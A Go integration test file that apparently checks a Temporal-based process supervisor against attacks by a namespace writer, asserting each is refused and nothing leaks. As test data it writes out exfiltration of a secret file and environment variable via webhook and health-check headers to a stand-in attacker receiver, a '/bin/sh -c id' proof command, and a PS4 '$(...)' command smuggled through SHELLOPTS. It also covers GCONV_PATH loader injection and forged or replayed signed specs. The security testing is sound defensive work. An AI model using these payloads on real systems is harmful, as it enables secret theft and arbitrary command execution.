package integration

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	enumspb "go.temporal.io/api/enums/v1"
	"go.temporal.io/sdk/client"

	"github.com/steward-sh/steward/activities"
	"github.com/steward-sh/steward/internal/admission"
	"github.com/steward-sh/steward/internal/revision"
	"github.com/steward-sh/steward/internal/spec"
	"github.com/steward-sh/steward/workflows"
)

// The attacker of issue 47: write access to the namespace (the temporal CLI
// or an SDK client), no policy file, no signing key. The namespace has only
// guarded hosts: atk-signed (--trusted-keys) and atk-policy (--policy), so
// whichever worker takes a notification or an http action is guarded, as
// in a namespace whose operator guards every host.
const attackNS = "attacks"

// attackLab is the namespace, its two hosts, the operator's key, a
// receiver the attacker controls and the host's secrets it is after.
type attackLab struct {
	t                                 *testing.T
	c                                 client.Client
	key                               string
	dir                               string
	secretFile, secretValue, envValue string
	proof                             string // a file only a command the attacker chose would write
	hook                              *httptest.Server
	legit                             *httptest.Server // the operator's own http service (its check's URL)
	received                          *receiver
}

// receiver is what the attacker's server got: every request's headers and body.
type receiver struct {
	mu   sync.Mutex
	reqs []string
}

// on is the lab for subtest t (its checks fail t, not the parent).
func (l *attackLab) on(t *testing.T) *attackLab {
	c := *l
	c.t = t
	return &c
}

func newAttackLab(t *testing.T) *attackLab {
	needServer(t)
	l := &attackLab{t: t, dir: t.TempDir(), received: &receiver{}}
	r := temporalCLI(t, "operator", "namespace", "create", "-n", attackNS)
	require.True(t, r.code == 0 || strings.Contains(r.stderr, "already"), r.stderr)
	eventually(t, time.Minute, func() (bool, string) {
		r := temporalCLI(t, "workflow", "list", "-n", attackNS, "--limit", "1")
		return r.code == 0, r.stderr
	})
	l.secretValue = fmt.Sprintf("TOPSECRET-%d", time.Now().UnixNano())
	l.envValue = fmt.Sprintf("ENVSECRET-%d", time.Now().UnixNano())
	l.secretFile = filepath.Join(l.dir, "shadow-like-secret")
	require.NoError(t, os.WriteFile(l.secretFile, []byte(l.secretValue+"\n"), 0o600))
	l.proof = filepath.Join(l.dir, "pwned")
	l.hook = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		l.received.mu.Lock()
		l.received.reqs = append(l.received.reqs, fmt.Sprintf("%s %s %v %s", r.Method, r.URL, r.Header, body))
		l.received.mu.Unlock()
	}))
	t.Cleanup(l.hook.Close)

	l.key = keygen(t)
	sleep, err := exec.LookPath("sleep")
	require.NoError(t, err)
	policy := filepath.Join(l.dir, "policy.yaml")
	// The operator's own http service: its check may run on either host
	// (http actions go to the pool), so the policy lists its URL; the
	// attacker's receiver it does not.
	l.legit = httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(l.legit.Close)
	require.NoError(t, os.WriteFile(policy, []byte("commands: ["+sleep+"]\nurls: [\""+l.legit.URL+"/\"]\n"), 0o644))
	// The workers' environment holds a secret of the host's.
	t.Setenv("STEWARD_ATTACK_SECRET", l.envValue)
	for host, flags := range map[string][]string{
		"atk-signed": {"--trusted-keys", l.key + ".pub"},
		"atk-policy": {"--policy", policy},
	} {
		w, err := startWorker(host, append([]string{"--namespace", attackNS, "--host", host}, flags...)...)
		require.NoError(t, err)
		t.Cleanup(w.stop)
	}
	l.c, err = client.Dial(client.Options{HostPort: address, Namespace: attackNS, Logger: quiet{}})
	require.NoError(t, err)
	t.Cleanup(l.c.Close)
	return l
}

func (l *attackLab) starter(args ...string) result {
	l.t.Helper()
	return starter(l.t, append([]string{"--namespace", attackNS}, args...)...)
}

func (l *attackLab) status(path string) workflows.Status {
	l.t.Helper()
	var st workflows.Status
	eventually(l.t, 30*time.Second, func() (bool, string) {
		r := l.starter("status", path, "-o", "json")
		if r.code != 0 {
			return false, r.stderr
		}
		st = workflows.Status{}
		return json.Unmarshal([]byte(r.stdout), &st) == nil && st.Stale == "", r.stdout
	})
	return st
}

// signal sends path a raw spec, around the starter and its supervisor.
func (l *attackLab) signal(path string, u spec.Update) {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	require.NoError(l.t, l.c.SignalWorkflow(ctx, path, "", workflows.SignalSpec, u))
}

// specOf is the spec path's workflow holds (with its signature).
func (l *attackLab) specOf(path string) spec.Node {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	v, err := l.c.QueryWorkflow(ctx, path, "", workflows.QuerySpec)
	require.NoError(l.t, err)
	var n spec.Node
	require.NoError(l.t, v.Get(&n))
	return n
}

// history is every event of path's current run, as the server keeps it.
func (l *attackLab) history(path string) string {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	it := l.c.GetWorkflowHistory(ctx, path, "", false, enumspb.HISTORY_EVENT_FILTER_TYPE_ALL_EVENT)
	var b strings.Builder
	for it.HasNext() {
		e, err := it.Next()
		require.NoError(l.t, err)
		b.WriteString(e.String())
		b.WriteByte('\n')
	}
	return b.String()
}

// refusedAsBefore waits until path's host refused a spec newer than
// before's, and checks the service that ran runs on, untouched.
func (l *attackLab) refusedAsBefore(path string, before workflows.Status, reason string) {
	l.t.Helper()
	var st workflows.Status
	eventually(l.t, time.Minute, func() (bool, string) {
		st = l.status(path)
		return st.LastAction.Status == "refused" && st.Generation > before.Generation, fmt.Sprintf("%+v", st)
	})
	require.Equal(l.t, "running", st.State, "%+v", st)
	require.Contains(l.t, st.Reason, reason)
	require.Equal(l.t, before.Instance, st.Instance, "the instance that ran is the one that runs")
	require.True(l.t, alive(pidOf(l.t, st.Instance)))
}

// respecRefused sends path a raw spec and checks its host refused it,
// the service running on as before (refusedAsBefore).
func (l *attackLab) respecRefused(path string, n spec.Node, reason string) {
	l.t.Helper()
	before := l.status(path)
	l.signal(path, spec.Update{Spec: n})
	l.refusedAsBefore(path, before, reason)
}

// noLeak checks that nothing the host holds reached the attacker's
// receiver or the history of any of paths.
func (l *attackLab) noLeak(paths ...string) {
	l.t.Helper()
	l.received.mu.Lock()
	got := strings.Join(l.received.reqs, "\n")
	l.received.mu.Unlock()
	// A log's bytes travel as base64 in JSON.
	for _, s := range []string{l.secretValue, l.envValue, base64.StdEncoding.EncodeToString([]byte(l.secretValue + "\n"))} {
		require.NotContains(l.t, got, s, "the attacker's receiver got a secret of the host")
		for _, p := range paths {
			require.NotContains(l.t, l.history(p), s, "the history of %s holds a secret of the host", p)
		}
	}
	_, err := os.Stat(l.proof)
	require.ErrorIs(l.t, err, os.ErrNotExist, "a command the attacker chose ran")
}

// startRogue starts a workflow by hand, as `temporal workflow start` does.
func (l *attackLab) startRogue(id string, in workflows.WorkerInput) {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	_, err := l.c.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: id, TaskQueue: workflows.TaskQueue}, workflows.WorkerWorkflow, in)
	require.NoError(l.t, err)
	l.t.Cleanup(func() { _ = l.c.TerminateWorkflow(context.Background(), id, "", "attack test over") })
}

// failedWith waits until the hand-started worker at id has failed with
// reason, having run nothing.
func (l *attackLab) failedWith(id, reason string) {
	l.t.Helper()
	eventually(l.t, time.Minute, func() (bool, string) {
		st := l.status(id)
		return st.State == "failed" && strings.Contains(st.Reason, reason) && st.Instance == "", fmt.Sprintf("%+v", st)
	})
}

// TestAttacksOfANamespaceWriter runs every attack of issue 47 (and those
// found on the way) against guarded hosts: each is refused or harmless,
// and the services the operator runs are untouched.
func TestAttacksOfANamespaceWriter(t *testing.T) {
	l := newAttackLab(t)
	legit := l.legit
	signedTree := func(secs string) string {
		return writeSpec(t, `
name: atk
children:
  - name: svc
    kind: process
    process: {command: sleep, args: ["`+secs+`"], host: atk-signed, startSeconds: 200ms}
    observe: {interval: 2s}
  - name: talk
    kind: process
    process: {command: /bin/sh, args: ["-c", "cat `+l.secretFile+`; exec sleep 300"], host: atk-signed, startSeconds: 200ms}
  - name: check
    kind: http
    http: {health: {url: "`+legit.URL+`/health"}}
    observe: {interval: 1s}
`)
	}
	r := l.starter("apply", "-f", signedTree("300"), "--sign-key", l.key, "--wait", "--timeout", "2m")
	t.Cleanup(func() { l.starter("delete", "atk") })
	require.Equal(t, 0, r.code, r.stdout+r.stderr)
	first := l.specOf("atk/svc")
	require.NotEmpty(t, first.Signature)
	for _, secs := range []string{"301", "302"} {
		r = l.starter("apply", "-f", signedTree(secs), "--sign-key", l.key, "--wait", "--timeout", "2m")
		require.Equal(t, 0, r.code, r.stdout+r.stderr)
	}
	current := l.specOf("atk/svc")
	r = l.starter("apply", "-f", writeSpec(t, `
name: atkp
children:
  - name: svc
    kind: process
    process: {command: sleep, args: ["300"], host: atk-policy, startSeconds: 200ms}
    observe: {interval: 2s}
`), "--wait", "--timeout", "2m")
	t.Cleanup(func() { l.starter("delete", "atkp") })
	require.Equal(t, 0, r.code, r.stdout+r.stderr)
	r = l.starter("apply", "-f", writeSpec(t, `
name: atkf
hosts: [atk-signed]
children:
  - name: web
    kind: process
    instances: 2
    process: {command: sleep, args: ["{{ add 300 .Instance }}"], startSeconds: 200ms}
    observe: {interval: 2s}
`), "--sign-key", l.key, "--wait", "--timeout", "2m")
	t.Cleanup(func() { l.starter("delete", "atkf") })
	require.Equal(t, 0, r.code, r.stdout+r.stderr)

	shell := map[string]any{"command": "/bin/sh", "args": []string{"-c", "id > " + l.proof}}
	leakyNotify := &spec.Notify{Webhook: spec.Value{Literal: l.hook.URL + "/hook"}, Headers: map[string]spec.Value{
		"X-Leak": spec.FileRef(l.secretFile), "X-Env": spec.EnvRef("STEWARD_ATTACK_SECRET")}}
	// notifyRefused waits until path's history shows its notification
	// refused by whichever guarded host took it.
	notifyRefused := func(t *testing.T, path string) {
		l := l.on(t)
		eventually(t, time.Minute, func() (bool, string) {
			h := l.history(path)
			return strings.Contains(h, "resolves none for a notification") || strings.Contains(h, "is not allowed (the policy's"),
				"no refused notification in the history of " + path
		})
	}
	withPolicyHost := func(p map[string]any) map[string]any {
		out := map[string]any{"host": "atk-policy", "startSeconds": "200ms"}
		for k, v := range p {
			out[k] = v
		}
		return out
	}
	sleepOnPolicyHost := func(extra map[string]any) spec.Node {
		p := withPolicyHost(map[string]any{"command": "sleep", "args": []string{"299"}})
		for k, v := range extra {
			p[k] = v
		}
		return spec.Node{Name: "svc", Kind: spec.KindProcess, Process: p}
	}

	cases := []attackCase{
		{"notify reads a file and the worker's variable for the attacker (signed host)", func(t *testing.T, l *attackLab) {
			before := l.status("atk/svc")
			shellSpec := spec.Node{Name: "svc", Kind: spec.KindProcess, Process: withSignedHost(shell), Notify: leakyNotify}
			l.signal("atk/svc", spec.Update{Spec: shellSpec})
			l.refusedAsBefore("atk/svc", before, "is not signed")
			notifyRefused(t, "atk/svc")
			l.noLeak("atk/svc")
		}},
		{"notify reads a file and the worker's variable for the attacker (policy host)", func(t *testing.T, l *attackLab) {
			before := l.status("atkp/svc")
			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"args": []string{"298"}})})
			eventually(t, time.Minute, func() (bool, string) {
				st := l.status("atkp/svc")
				return st.Generation > before.Generation && st.State == "running", fmt.Sprintf("%+v", st)
			})
			n := sleepOnPolicyHost(nil)
			n.Process = withPolicyHost(shell)
			n.Notify = leakyNotify
			mid := l.status("atkp/svc")
			l.signal("atkp/svc", spec.Update{Spec: n})
			l.refusedAsBefore("atkp/svc", mid, "command /bin/sh")
			notifyRefused(t, "atkp/svc")
			l.noLeak("atkp/svc")
		}},
		{"notify's webhook read from a file is quoted in the failure", func(t *testing.T, l *attackLab) {
			before := l.status("atk/svc")
			n := spec.Node{Name: "svc", Kind: spec.KindProcess, Process: withSignedHost(shell),
				Notify: &spec.Notify{Webhook: spec.FileRef(l.secretFile)}}
			l.signal("atk/svc", spec.Update{Spec: n})
			l.refusedAsBefore("atk/svc", before, "is not signed")
			notifyRefused(t, "atk/svc")
			l.noLeak("atk/svc")
		}},
		{"a signed http worker re-specced to send a file to the attacker's URL", func(t *testing.T, l *attackLab) {
			before := l.status("atk/check")
			require.Equal(t, "running", before.State)
			evil := spec.Node{Name: "check", Kind: spec.KindHTTP, HTTP: map[string]any{
				"health": map[string]any{"url": l.hook.URL + "/health", "headers": map[string]any{"X-Leak": map[string]any{"file": l.secretFile}}}},
				Observe: &spec.Observe{Interval: spec.Dur(time.Second)}}
			l.signal("atk/check", spec.Update{Spec: evil})
			// The restart is refused, and so is every observe under the
			// refused spec: its request is what the attacker wrote.
			eventually(t, time.Minute, func() (bool, string) {
				// Refused by whichever host takes the action: the signed one
				// (not signed), the one with a policy (URL not listed).
				h := l.history("atk/check")
				return strings.Count(h, "is not signed, and this host runs only signed specs")+strings.Count(h, "is not allowed (the policy's urls do not list it)") >= 3,
					"fewer than 3 refusals in the history of atk/check"
			})
			l.noLeak("atk/check")
			l.received.mu.Lock()
			n := len(l.received.reqs)
			l.received.mu.Unlock()
			require.Zero(t, n, "the attacker's receiver got no request")
		}},
		{"a signed spec run by a workflow started by hand (rogue-1)", func(t *testing.T, l *attackLab) {
			l.startRogue("rogue-1", workflows.WorkerInput{Path: "atk/svc", Spec: current, Generation: 1, Version: workflows.WorkerVersion})
			l.failedWith("rogue-1", "comes from workflow rogue-1")
			l.startRogue("rogue-2", workflows.WorkerInput{Path: "rogue-2", Spec: current, Generation: 1, Version: workflows.WorkerVersion})
			l.failedWith("rogue-2", "does not match its signature")
			require.Equal(t, "running", l.status("atk/svc").State)
		}},
		{"a fleet instance beyond its signed count (web-57)", func(t *testing.T, l *attackLab) {
			tmpl := l.specOf("atkf/web-1")
			require.NotNil(t, tmpl.Instance)
			n57 := 57
			tmpl.Instance = &n57
			l.startRogue("atkf/web-57", workflows.WorkerInput{Path: "atkf/web-57", Spec: tmpl, Generation: 1, Version: workflows.WorkerVersion})
			l.failedWith("atkf/web-57", "beyond the 2 instances its template is signed as")
		}},
		{"an older signed spec replayed with generation 1000000000", func(t *testing.T, l *attackLab) {
			before := l.status("atk/svc")
			l.signal("atk/svc", spec.Update{Generation: 1_000_000_000, Spec: first})
			l.refusedAsBefore("atk/svc", before, "an old signed spec is not run again")
			cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pidOf(t, before.Instance)))
			require.NoError(t, err)
			require.Equal(t, "sleep\x00302\x00", string(cmdline), "the newest signed command runs")
		}},
		{"SHELLOPTS=xtrace and PS4 run a command inside an allowed program", func(t *testing.T, l *attackLab) {
			l.respecRefused("atkp/svc", sleepOnPolicyHost(map[string]any{"env": map[string]any{"SHELLOPTS": "xtrace", "PS4": "$(id > " + l.proof + ")"}}), "env PS4 is not allowed (it makes an allowed program load other code)")
			l.noLeak()
		}},
		{"an interpreter's loader variable (GCONV_PATH)", func(t *testing.T, l *attackLab) {
			l.respecRefused("atkp/svc", sleepOnPolicyHost(map[string]any{"env": map[string]any{"GCONV_PATH": l.dir}}), "env GCONV_PATH is not allowed")
		}},
		{"envFile reads any file into the service", func(t *testing.T, l *attackLab) {
			l.respecRefused("atkp/svc", sleepOnPolicyHost(map[string]any{"envFile": l.secretFile}), "process.envFile file "+l.secretFile+" is not allowed (the policy's secrets do not list it)")
			l.noLeak("atkp/svc")
		}},
		{"env {file: ...} reads any file into the service", func(t *testing.T, l *attackLab) {
			l.respecRefused("atkp/svc", sleepOnPolicyHost(map[string]any{"env": map[string]any{"X": map[string]any{"file": l.secretFile}}}), "process.env.X file "+l.secretFile+" is not allowed")
			l.noLeak("atkp/svc")
		}},
		{"inheritEnv hands the service a variable of the worker's", func(t *testing.T, l *attackLab) {
			l.respecRefused("atkp/svc", sleepOnPolicyHost(map[string]any{"inheritEnv": []string{"STEWARD_ATTACK_SECRET"}}), "process.inheritEnv STEWARD_ATTACK_SECRET is not allowed")
		}},
		{"an http worker sends a file to the attacker's URL", func(t *testing.T, l *attackLab) {
			evil := spec.Node{Name: "evil-http", Kind: spec.KindHTTP, HTTP: map[string]any{
				"health": map[string]any{"url": l.hook.URL + "/health", "headers": map[string]any{"X-Leak": map[string]any{"file": l.secretFile}}},
				"start":  map[string]any{"url": l.hook.URL + "/start", "headers": map[string]any{"X-Env": map[string]any{"env": "STEWARD_ATTACK_SECRET"}}},
			}}
			l.startRogue("evil-http", workflows.WorkerInput{Path: "evil-http", Spec: evil, Generation: 1, Version: workflows.WorkerVersion})
			eventually(t, time.Minute, func() (bool, string) {
				st := l.status("evil-http")
				return st.State == "failed" && strings.Contains(st.Reason, "refused"), fmt.Sprintf("%+v", st)
			})
			l.noLeak("evil-http")
		}},
	}
	cases = append(cases, attackCase{"a forged revision is signed anew by the operator's revert", func(t *testing.T, l *attackLab) {
		// The attacker records a spec of its own in atk's revisions log as
		// the revision before the current: the operator's `starter revert
		// --sign-key` would sign it (a kept spec is whatever was recorded).
		evil := spec.Node{Name: "atk", Children: []spec.Node{{Name: "svc", Kind: spec.KindProcess,
			Process: map[string]any{"command": "/bin/sh", "args": []any{"-c", "id > " + l.proof}, "host": "atk-signed"}}}}
		body, err := spec.Compress(evil)
		require.NoError(t, err)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		var rows []revisionRow
		r := l.starter("revisions", "atk", "-o", "json")
		require.Equal(t, 0, r.code, r.stderr)
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &rows))
		require.GreaterOrEqual(t, len(rows), 2)
		rev := rows[len(rows)-1].Revision
		for i, r := range []int64{rev - 1, rev} {
			req := fmt.Sprintf("forged-%d-%d", time.Now().UnixNano(), i)
			require.NoError(t, l.c.SignalWorkflow(ctx, workflows.RevisionsID("atk"), "", workflows.SignalRecord, workflows.RevisionRecord{
				Record: revision.Record{Request: req, Digest: spec.Digest(evil), Message: "known good", User: "alice"}, Spec: body}))
			require.NoError(t, l.c.SignalWorkflow(ctx, workflows.RevisionsID("atk"), "", workflows.SignalTaken, revision.Taken{Request: req, Revision: r, Changed: true}))
		}
		eventually(t, time.Minute, func() (bool, string) {
			r := l.starter("revisions", "atk", "--show", fmt.Sprint(rev-1))
			return r.code == 0 && strings.Contains(r.stdout, l.proof), r.stdout + r.stderr
		})
		r = l.starter("revert", "atk", "--sign-key", l.key)
		require.NotEqual(t, 0, r.code, r.stdout)
		require.Contains(t, r.stderr, "is not signed by this key as it is")
		require.Contains(t, r.stderr, "atk/svc carries no signature of key")
		_, err = os.Stat(l.proof)
		require.True(t, os.IsNotExist(err), "the attacker's command never ran")
		require.Contains(t, l.specOf("atk/svc").Process["command"], "sleep", "atk/svc runs the operator's spec")
	}})
	cases = append(cases, attackCase{"forged child reports pin or end a supervisor's record of its child", func(t *testing.T, l *attackLab) {
		// A tree of its own (the cases before leave atkp/svc under a spec
		// its host refuses, which a restart would meet).
		r := l.starter("apply", "-f", writeSpec(t, `
name: atkr
children:
  - name: svc
    kind: process
    process: {command: sleep, args: ["299"], host: atk-policy, startSeconds: 200ms}
    observe: {interval: 2s}
`), "--wait", "--timeout", "2m")
		require.Equal(t, 0, r.code, r.stdout+r.stderr)
		t.Cleanup(func() { l.starter("delete", "atkr") })
		// What the supervisor (atkr) keeps of its child, as its own status
		// query answers from its record.
		record := func() workflows.Status {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			v, err := l.c.QueryWorkflow(ctx, "atkr", "", workflows.QueryStatus)
			require.NoError(t, err)
			var st workflows.Status
			require.NoError(t, v.Get(&st))
			for _, c := range st.Children {
				if c.Path == "atkr/svc" {
					return c
				}
			}
			t.Fatalf("no record of atkr/svc in %+v", st)
			return workflows.Status{}
		}
		before := record()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		forged := workflows.Status{Path: "atkr/svc", Kind: spec.KindProcess, State: "failed", Desired: "running", Reason: "forged"}
		// The child's run, as any namespace reader sees it.
		d, err := l.c.DescribeWorkflowExecution(ctx, "atkr/svc", "")
		require.NoError(t, err)
		run := d.GetWorkflowExecutionInfo().GetFirstRunId()
		require.NotEmpty(t, run)
		// A huge number (it held the record against every real report
		// after it), an end nobody asked for (it ended the record for
		// good), each naming the child's run, and both naming none.
		for _, r := range []string{run, ""} {
			require.NoError(t, l.c.SignalWorkflow(ctx, "atkr", "", workflows.SignalChild, workflows.ChildReport{Run: r, Seq: math.MaxInt64, Status: forged}))
			require.NoError(t, l.c.SignalWorkflow(ctx, "atkr", "", workflows.SignalChild, workflows.ChildReport{Run: r, Seq: time.Now().UnixNano(), Ended: true, Status: forged}))
		}
		// The child's next real report is taken: its process killed, the
		// record counts the end.
		require.NoError(t, syscall.Kill(pidOf(t, l.status("atkr/svc").Instance), syscall.SIGKILL))
		eventually(t, time.Minute, func() (bool, string) {
			rec := record()
			return rec.State == "running" && rec.Terminations > before.Terminations, fmt.Sprintf("%+v", rec)
		})
		// The supervisor still acts on its child: its operator restart
		// reaches it.
		r = l.starter("restart", "atkr")
		require.Equal(t, 0, r.code, r.stdout+r.stderr)
		eventually(t, time.Minute, func() (bool, string) {
			rec := record()
			return rec.State == "running" && rec.Restarts > before.Restarts, fmt.Sprintf("%+v", rec)
		})
		eventually(t, time.Minute, func() (bool, string) {
			st := l.status("atkr/svc")
			return st.State == "running", st.State
		})
	}})
	cases = append(cases, readAttacks(l)...)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			c.run(t, l.on(t))
		})
	}
	t.Logf("attack_cases=%d", len(cases))
	// The operator's services ran through it all.
	for _, p := range []string{"atk/svc", "atkp/svc", "atkf/web-0", "atkf/web-1"} {
		require.Equal(t, "running", l.status(p).State, p)
	}
}

// withSignedHost is a process block on the signed host.
func withSignedHost(p map[string]any) map[string]any {
	out := map[string]any{"host": "atk-signed", "startSeconds": "200ms"}
	for k, v := range p {
		out[k] = v
	}
	return out
}

type attackCase struct {
	name string
	run  func(t *testing.T, l *attackLab)
}

// logsRun runs a LogsWorkflow by hand, as `temporal workflow execute
// --type LogsWorkflow` does, and returns its ID and answer.
func (l *attackLab) logsRun(id string, req activities.ReadLogRequest) (activities.ReadLogResult, error) {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	run, err := l.c.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: id, TaskQueue: workflows.TaskQueue}, workflows.LogsWorkflow,
		workflows.LogsRequest{Host: "atk-signed", Read: req})
	require.NoError(l.t, err)
	var res activities.ReadLogResult
	return res, run.Get(ctx, &res)
}

// readAttacks: what a namespace reader or writer reads of a signed host
// (atk/talk's log holds the content of the host's secret file).
func readAttacks(l *attackLab) []attackCase {
	waitLogged := func(t *testing.T, l *attackLab) {
		eventually(t, time.Minute, func() (bool, string) {
			r := l.starter("logs", "atk/talk", "--sign-key", l.key)
			return r.code == 0 && strings.Contains(r.stdout, l.secretValue), r.stdout + r.stderr
		})
	}
	return []attackCase{
		{"a LogsWorkflow started by a namespace writer reads a service's log", func(t *testing.T, l *attackLab) {
			waitLogged(t, l)
			_, err := l.logsRun("steward-logs-attack-1", activities.ReadLogRequest{WorkflowID: "atk/talk", Lines: 10})
			require.ErrorContains(t, err, "this host answers only signed reads")
			l.noLeak("steward-logs-attack-1")
			r := l.starter("logs", "atk/talk")
			require.NotEqual(t, 0, r.code)
			require.Contains(t, r.stderr, "this host answers only signed reads")
			require.NotContains(t, r.stdout, l.secretValue)
		}},
		{"a signed read's answer is read in its history, or replayed", func(t *testing.T, l *attackLab) {
			key, err := admission.LoadPrivateKey(l.key)
			require.NoError(t, err)
			req := activities.ReadLogRequest{WorkflowID: "atk/talk", Lines: 10}
			auth, reply, err := (&admission.Reader{Key: key}).Sign("log", req)
			require.NoError(t, err)
			req.Auth = &auth
			res, err := l.logsRun("steward-logs-attack-2", req)
			require.NoError(t, err)
			require.Empty(t, res.Data, "a signed read's answer is sealed")
			plain, err := admission.Open(reply, res.Sealed)
			require.NoError(t, err)
			var opened activities.ReadLogResult
			require.NoError(t, json.Unmarshal(plain, &opened))
			require.Contains(t, string(opened.Data), l.secretValue, "its reader opens it")
			// The history holds the sealed answer only; the same request
			// replayed gets an answer sealed to the operator's reply key.
			res, err = l.logsRun("steward-logs-attack-3", req)
			require.NoError(t, err)
			require.NotNil(t, res.Sealed)
			l.noLeak("steward-logs-attack-2", "steward-logs-attack-3")
		}},
		{"usage read by a starter without the key", func(t *testing.T, l *attackLab) {
			r := l.starter("status", "atk/svc")
			require.Equal(t, 0, r.code, r.stderr)
			require.Contains(t, r.stderr, "this host answers only signed reads", "the status shows, without the host's usage")
			r = l.starter("status", "atk/svc", "--sign-key", l.key)
			require.Equal(t, 0, r.code, r.stderr)
			require.NotContains(t, r.stderr, "signed reads")
		}},
	}
}
